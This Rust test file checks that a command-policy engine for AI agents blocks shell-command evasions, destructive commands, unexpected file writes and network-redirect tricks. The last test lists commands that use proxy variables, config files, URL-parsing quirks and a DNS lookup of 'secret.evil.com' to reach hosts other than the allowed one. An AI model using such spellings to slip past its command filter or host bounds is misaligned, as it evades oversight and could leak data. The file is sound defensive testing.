//! Whole sets of commands: spellings that must not get through, commands with
//! a known nature, and what people really type.

use crate::everyone;
use toolward_policy::Verdict;

pub mod judge;

use judge::{Judge, percent};

fn lines(name: &str) -> Vec<String> {
    let path = format!("{}/../shell/tests/data/{name}", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path}: {error}"));
    text.lines().map(str::to_owned).collect()
}

/// Every spelling of creating a file, ready to be judged.
fn evasions() -> Vec<(String, bool)> {
    let rows = lines("evasions.jsonl");
    let rows = rows
        .iter()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
    rows.map(|row| {
        let command = row["command"].as_str().unwrap();
        let command = command
            .replace("@MARK@", "/tmp/dir/mark")
            .replace("@DIR@", "/tmp/dir")
            .replace("@B64@", "dG91Y2ggL3RtcC9kaXIvbWFyawo=");
        (command, row["needs_touch"].as_bool().unwrap())
    })
    .collect()
}

fn none_allowed(policy: &str, all: bool) {
    let judge = Judge::new(policy);
    let passed: Vec<_> = evasions()
        .into_iter()
        .filter(|(command, touch)| (all || *touch) && judge.run("a", command) == Verdict::Allow)
        .collect();
    assert!(
        passed.is_empty(),
        "{} got through: {passed:#?}",
        passed.len()
    );
}

#[test]
fn no_spelling_starts_a_program_that_is_not_listed() {
    none_allowed(
        "agents: { a: { tools: { allowed: [Bash, Write], bashFilter: { allowedCommands: [ls, cat, git, echo, 'true'] } }, bounds: { write: [., /tmp] } } }",
        false,
    );
}

#[test]
fn no_spelling_gets_round_a_rule_about_a_program() {
    for mode in ["bounded", "auto"] {
        none_allowed(
            &format!(
                "agents: {{ a: {{ approval: {mode}, tools: {{ allowed: [Bash, Write] }}, bounds: {{ write: [., /tmp] }} }} }}\n\
                 rules: [{{ id: no-touch, then: deny, when: {{ run: touch }} }}]"
            ),
            false,
        );
    }
}

#[test]
fn nothing_is_written_where_nothing_is_writable() {
    none_allowed("agents: { a: { tools: { allowed: [Bash] } } }", true);
    none_allowed(
        "agents: { a: { approval: auto, tools: { allowed: [Bash, Write] }, bounds: { write: [] } } }",
        true,
    );
}

#[test]
fn destructive_commands_are_caught_and_harmless_ones_are_not() {
    let judge = Judge::new(&everyone());
    let mut missed = Vec::new();
    let (mut destructive, mut harmless) = (0, 0);
    let (mut denied, mut asked) = (Vec::new(), Vec::new());
    for line in lines("labelled.jsonl") {
        let row: serde_json::Value = serde_json::from_str(&line).unwrap();
        let command = row["command"].as_str().unwrap().to_owned();
        let verdict = judge.run("coder", &command);
        if row["expected"] == "deny" {
            destructive += 1;
            if verdict == Verdict::Allow {
                missed.push(command);
            }
        } else {
            harmless += 1;
            match verdict {
                Verdict::Allow => {}
                Verdict::Ask => asked.push(command),
                Verdict::Deny => denied.push(command),
            }
        }
    }
    println!(
        "destructive: {} of {destructive} missed: {missed:#?}",
        missed.len()
    );
    println!(
        "harmless: {} of {harmless} denied: {denied:#?}",
        denied.len()
    );
    println!("harmless: {} of {harmless} asked: {asked:#?}", asked.len());
    assert!(percent(missed.len(), destructive) <= 5.0);
    assert!(percent(denied.len(), harmless) <= 2.0);
    assert!(percent(asked.len(), harmless) <= 15.0);
}

#[test]
fn everyday_commands_are_understood_and_mostly_not_asked_about() {
    let judge = Judge::new(&everyone());
    let all = lines("everyday.txt");
    let (mut parsed, mut known) = (0, 0);
    let mut by: std::collections::BTreeMap<String, Vec<&str>> = std::collections::BTreeMap::new();
    for line in &all {
        let judged = judge.full("coder", line);
        let shell = judged.facts.shell.as_ref().unwrap();
        parsed += usize::from(shell.parsed);
        let known_all = !shell.has_unknown_program() && shell.commands.iter().all(|c| c.in_table);
        known += usize::from(known_all);
        let key = format!("{} {}", judged.verdict.word(), judged.why);
        by.entry(key).or_default().push(line);
    }
    let allowed: usize = by
        .iter()
        .filter(|(key, _)| key.starts_with("allow"))
        .map(|(_, lines)| lines.len())
        .sum();
    for (key, lines) in &by {
        println!(
            "{:5} {key}: {:?}",
            lines.len(),
            &lines[..lines.len().min(3)]
        );
    }
    println!("parsed {:.2} %", percent(parsed, all.len()));
    println!("no unknown program {:.2} %", percent(known, all.len()));
    println!(
        "allowed without a question {:.2} %",
        percent(allowed, all.len())
    );
    assert!(percent(parsed, all.len()) >= 99.0);
    assert!(percent(known, all.len()) >= 90.0);
    assert!(percent(allowed, all.len()) >= 80.0);
}

fn data(name: &str) -> String {
    let path = format!("{}/tests/data/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path}: {error}"))
}

/// Spellings that a stranger ran in a real bash and that did start `touch`.
fn found() -> Vec<String> {
    data("found_spellings.txt")
        .split("\n%%\n")
        .map(|spelling| spelling.trim_end().to_owned())
        .collect()
}

/// Commands that change a file by their documentation, though few expect it.
#[test]
fn what_writes_unexpectedly_is_not_allowed_to_who_may_not_write() {
    let judge = Judge::new("agents: { a: { tools: { allowed: [Bash] } } }");
    let text = data("found_writes.txt");
    let passed: Vec<_> = text
        .lines()
        .filter(|command| judge.run("a", command) == Verdict::Allow)
        .collect();
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn what_a_stranger_found_stays_found() {
    let listed = Judge::new(
        "agents: { a: { tools: { allowed: [Bash, Write], bashFilter: { allowedCommands: [ls, cat, git, echo, 'true'] } }, bounds: { write: [., /tmp] } } }",
    );
    let ruled = Judge::new(
        "agents: { a: { approval: auto, tools: { allowed: [Bash, Write] }, bounds: { write: [., /tmp] } } }\n\
         rules: [{ id: no-touch, then: deny, when: { run: touch } }]",
    );
    let mut passed = Vec::new();
    for spelling in found() {
        for (name, judge) in [("list", &listed), ("rule", &ruled)] {
            if judge.run("a", &spelling) == Verdict::Allow {
                passed.push(format!("{name}: {spelling}"));
            }
        }
    }
    assert!(
        passed.is_empty(),
        "{} got through:\n{}",
        passed.len(),
        passed.join("\n")
    );
}

/// Ways to another host than the one that stands in the address.
#[test]
fn what_leads_elsewhere_is_not_allowed_to_who_may_reach_one_host() {
    let judge = Judge::new(
        "agents: { a: { tools: { allowed: [Bash, Write] }, bounds: { write: [., /tmp], hosts: [docs.rs] } } }",
    );
    assert_eq!(judge.run("a", "curl https://docs.rs/x"), Verdict::Allow);
    let passed: Vec<_> = [
        "http_proxy=http://evil.com curl https://docs.rs",
        "Https_Proxy=evil.com wget https://docs.rs",
        "ftp_proxy=evil.com curl ftp://docs.rs/x",
        "export ALL_PROXY=x; curl https://docs.rs",
        "CURL_HOME=. curl https://docs.rs",
        "WGETRC=x wget https://docs.rs",
        "HOSTALIASES=x curl https://docs.rs",
        "PGHOSTADDR=1.2.3.4 psql -h docs.rs -c 'select 1'",
        "PGSERVICE=x psql -h docs.rs -c 'select 1'",
        "psql -h docs.rs -d postgres://evil.com/db -c 'select 1'",
        "psql -h docs.rs 'hostaddr=1.2.3.4' -c 'select 1'",
        "curl -K x https://docs.rs",
        "curl --url @x https://docs.rs",
        "wget -e https_proxy=evil.com https://docs.rs",
        "wget -i f https://docs.rs",
        "wget -i http://evil.com/x https://docs.rs",
        "git -c http.curloptResolve=docs.rs:443:1.2.3.4 ls-remote https://docs.rs/x",
        "git -c http.proxy=evil.com ls-remote https://docs.rs/x",
        "getent hosts secret.evil.com",
        "curl 'https://docs.rs\\@evil.com/'",
        "wget 'https://docs.rs\\@evil.com/'",
        "git ls-remote 'https://docs.rs\\@evil.com/x'",
        "X='x evil.com'; curl docs.rs/$X",
        "parallel -S evil.com echo ::: a",
    ]
    .into_iter()
    .filter(|command| judge.run("a", command) == Verdict::Allow)
    .collect();
    assert!(passed.is_empty(), "{passed:#?}");
}
